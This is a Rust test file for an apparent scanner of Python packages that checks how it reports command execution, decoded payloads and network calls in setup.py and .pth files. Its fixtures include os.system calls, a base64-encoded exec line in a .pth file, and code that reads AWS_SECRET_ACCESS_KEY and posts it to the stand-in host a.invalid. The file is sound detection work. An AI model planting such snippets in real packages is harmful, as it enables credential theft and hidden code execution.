//! Cases are files under `cases/`: `=== name`, the source, `---`, and what is told of it. `name` may end in ` @path`.

use super::super::render::{blocks, rendered};

fn run(file: &str, text: &str) {
    let wrong: Vec<String> = blocks(text)
        .into_iter()
        .filter_map(|case| {
            let path = case.path.unwrap_or("pkg/mod.py");
            let found = rendered(&super::read(case.source.as_bytes(), path));
            (found.trim() != case.expected.trim()).then(|| {
                format!("=== {}\n{}\n---\n{}\n", case.title, case.source.trim_end(), found.trim_end())
            })
        })
        .collect();
    assert!(wrong.is_empty(), "{file}: {} differ; what is told now:\n{}", wrong.len(), wrong.join("\n"));
}

macro_rules! cases {
    ($($name:ident),* $(,)?) => {
        $(#[test]
        fn $name() {
            let file = concat!(stringify!($name), ".txt");
            run(file, include_str!(concat!("cases/", stringify!($name), ".txt")));
        })*
    };
}

cases!(constants, names, execution, files, network, host, decoders, flows, scopes, native, ordinary);

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config { cases: 192, ..Default::default() })]

    #[test]
    fn any_bytes_are_read(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..2_000)) {
        let _ = super::read(&bytes, "setup.py");
        let _ = super::read_pth(&bytes);
    }

    #[test]
    fn torn_sources_are_read(at in 0_usize..8_000, to in 0_usize..8_000, flip in 0_usize..8_000) {
        let whole: String = CASES.iter().flat_map(|text| blocks(text)).map(|case| case.source).collect();
        let mut bytes = whole.into_bytes();
        let length = bytes.len();
        bytes[flip % length] ^= 0x11;
        let (from, to) = (at.min(to) % length, at.max(to) % length);
        let _ = super::read(&bytes[from.min(to)..to.max(from)], "a.py");
    }
}

/// Sources to tear.
const CASES: &[&str] =
    &[include_str!("cases/names.txt"), include_str!("cases/ordinary.txt"), include_str!("cases/network.txt")];

#[test]
fn deep_and_long_sources_are_borne() {
    let nested = format!("x = {}1{}", "(".repeat(100_000), ")".repeat(100_000));
    let chain = format!("import os\nos.system({})", vec!["chr(97)"; 15_000].join("+"));
    let attributes = format!("x = a{}", ".b".repeat(15_000));
    let calls = format!("x = a{}", "()".repeat(15_000));
    let nots = format!("x = {}y", "not ".repeat(15_000));
    let lambdas = format!("x = {}y", "lambda: ".repeat(15_000));
    let powers = format!("x = {}1", "2**".repeat(15_000));
    let indents: String = (0..500).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect();
    let elifs = format!("if x: pass\n{}", "elif y: pass\n".repeat(20_000));
    let strings = format!("x = f'{}'", "{x+".repeat(50_000));
    for text in [&nested, &chain, &attributes, &calls, &nots, &lambdas, &powers, &indents, &elifs, &strings] {
        let _ = super::read(text.as_bytes(), "a.py");
    }
    let told = super::read(chain.as_bytes(), "a.py");
    assert!(told.facts.iter().any(|fact| fact.detail.starts_with("aaaa")), "a long chain is still folded");
}

#[test]
fn encodings_are_as_python_reads_them() {
    let source = "import os\nos.system('id')\n";
    let expected = "exec id\nimports os\n";
    let utf16: Vec<u8> =
        [0xFF, 0xFE].into_iter().chain(source.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let marked = [b"\xEF\xBB\xBF".as_slice(), source.as_bytes()].concat();
    let latin = [b"# coding: latin-1\n# \xE9\n".as_slice(), source.as_bytes()].concat();
    for bytes in [utf16, marked, latin] {
        assert_eq!(rendered(&super::read(&bytes, "a.py")), expected);
    }
    let rot = b"# -*- coding: rot13 -*-\nvzcbeg bf\nbf.flfgrz('vq')\n";
    assert!(rendered(&super::read(rot, "a.py")).contains("exec id"));
    let utf7 = b"# coding: utf7\n+AGkAbQBwAG8AcgB0- os\nos.system('id')\n";
    assert!(rendered(&super::read(utf7, "a.py")).contains("exec id"));
    let offset = super::read(b"\xEF\xBB\xBFimport os\nos.system('id')\n", "a.py").facts[0].offset;
    assert_eq!(offset, 13);
}

#[test]
fn large_sources_are_read_by_tokens() {
    let mut text =
        "import os as o\nfrom base64 import b64decode\no.system('id')\nexec(b64decode('eA=='))\n".to_owned();
    text.push_str(
        &"x = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\n"
            .repeat(90_000),
    );
    let told = rendered(&super::read(text.as_bytes(), "a.py"));
    assert!(
        told.starts_with("tokens\nexec id\neval exec\ndecode base64\n"),
        "{}",
        &told[..told.len().min(400)]
    );
}

#[test]
fn pth_lines_are_told_with_their_idiom() {
    use super::PthIdiom::{Coverage, DistutilsPrecedence, Editable, Import, Namespace};
    let check = |line: &str, idiom| {
        let lines = super::read_pth(format!("./folder\n{line}\n").as_bytes());
        assert_eq!(lines.len(), 1, "{line}");
        assert_eq!(lines[0].idiom, idiom, "{line}");
        assert_eq!(lines[0].line, 2);
    };
    check(
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim()",
        Some(DistutilsPrecedence),
    );
    check("import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()", Some(Editable));
    check("import coverage; coverage.process_startup()", Some(Coverage));
    check("import pkg_hook", Some(Import));
    check(
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('ns',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('ns', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('ns', [os.path.dirname(p)])));m = m or sys.modules.setdefault('ns', types.ModuleType('ns'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)",
        Some(Namespace),
    );
    check("import os; os.system('id')", None);
    check("import os; exec(open('x').read())", None);
    check("import sys, types, os; m = __import__('evil').x.__path__", None);
    check("import __editable___pkg_1_0_finder; evil.install()", None);
    let lines =
        super::read_pth(b"import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n");
    assert!(lines[0].facts.facts.iter().any(|fact| fact.detail == "id"));
    assert!(super::read_pth(b"folder\nimportant\n# import os\n").is_empty());
}

/// A parser by recursive descent: methods that call each other and put what they get into the same fields, beside each other
/// and into each other. `ends` is the last statement of every method.
fn descent(methods: usize, ends: &str) -> String {
    let mut source = "import os\nclass Reader:\n    def __init__(self, text):\n        self.text, self.at = text, 0\n        self.all, self.note = [], ''\n".to_owned();
    for method in 0..methods {
        let [a, b, c, d] = [7, 5, 3, 11].map(|step| (method * step + step) % methods);
        source.push_str(&format!(
            "    def read{method}(self):
        parts = ['']
        while self.at < len(self.text):
            if self.text[self.at] == '(':
                parts.append(self.read{a}())
                parts.append(self.read{b}())
                self.all.append(self.read{c}())
            else:
                parts.append('<%s>' % self.read{d}())
                self.note += '[' + self.note + ''.join(parts) + ']'
                self.at += 1
        self.all = self.all + self.all + parts
        {ends}
"
        ));
    }
    source
}

/// Bytes of texts and elements of lists that are held when a source has been followed, and calls whose names are.
fn held(source: &str) -> (usize, usize, usize) {
    use super::value::{Kind, Value};
    fn weigh(
        value: &Value<'_>,
        seen: &mut std::collections::HashSet<usize>,
        sum: &mut (usize, usize, usize),
    ) {
        match &value.kind {
            Kind::Text { text, .. } if seen.insert(text.as_ptr().addr()) => sum.0 += text.len(),
            Kind::List(items) if seen.insert(items.as_ptr().addr()) => {
                sum.1 += items.len();
                items.iter().for_each(|item| weigh(item, seen, sum));
            }
            _ => {}
        }
    }
    let (suite, whole) = super::parse(source);
    assert!(whole);
    let layers = super::interp::Layers::default();
    let mut interp = super::interp::Interp::new(&layers, false);
    interp.module(&suite);
    let (mut seen, mut sum) = (std::collections::HashSet::new(), (0, 0, 0));
    sum.2 = interp.frames.iter().filter(|frame| !frame.vars.is_empty()).count();
    let names = interp.frames.iter().flat_map(|frame| frame.vars.values());
    let members = interp.classes.iter().flat_map(|class| class.members.values());
    for value in names.chain(members).chain(interp.results.values()) {
        weigh(value, &mut seen, &mut sum);
    }
    sum
}

#[test]
fn a_parser_by_recursive_descent_grows_no_more_than_its_bounds() {
    let source = descent(24, "return '<%s>' % ','.join(parts) + self.note");
    let (texts, elements, calls) = held(&source);
    let methods = 24;
    // What every method gave, the fields, and the names of the module and of the class.
    assert!(texts <= (methods + 8) * 2 * super::value::VAGUE_BYTES, "{texts} bytes of texts");
    assert!(elements <= super::value::GATHERED / 2, "{elements} elements");
    assert_eq!(calls, 2, "ended calls hold their names");
}

#[test]
fn what_grows_beyond_its_bounds_keeps_where_it_comes_from() {
    let begin =
        "import os, requests\n".to_owned() + &descent(24, "return '<%s>' % ','.join(parts) + self.note");
    let told = rendered(&super::read(
        format!(
            "{begin}reader = Reader('x')\nreader.note = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.post('https://a.invalid', data=reader.read0())\n"
        )
        .as_bytes(),
        "a.py",
    ));
    assert!(told.contains("env_read AWS_SECRET_ACCESS_KEY -> "), "{told}");
}

#[test]
fn lists_that_double_end_as_unknown_with_their_sources() {
    let doubled = "    all = all + all\n".repeat(40);
    let source = format!(
        "import os, requests\ndef grow(all):\n{doubled}    return all\nx = grow([os.environ['AWS_SECRET_ACCESS_KEY'], 1, 2])\nrequests.post('https://a.invalid', data=x)\n"
    );
    let told = rendered(&super::read(source.as_bytes(), "a.py"));
    assert!(told.contains("env_read AWS_SECRET_ACCESS_KEY -> "), "{told}");
}
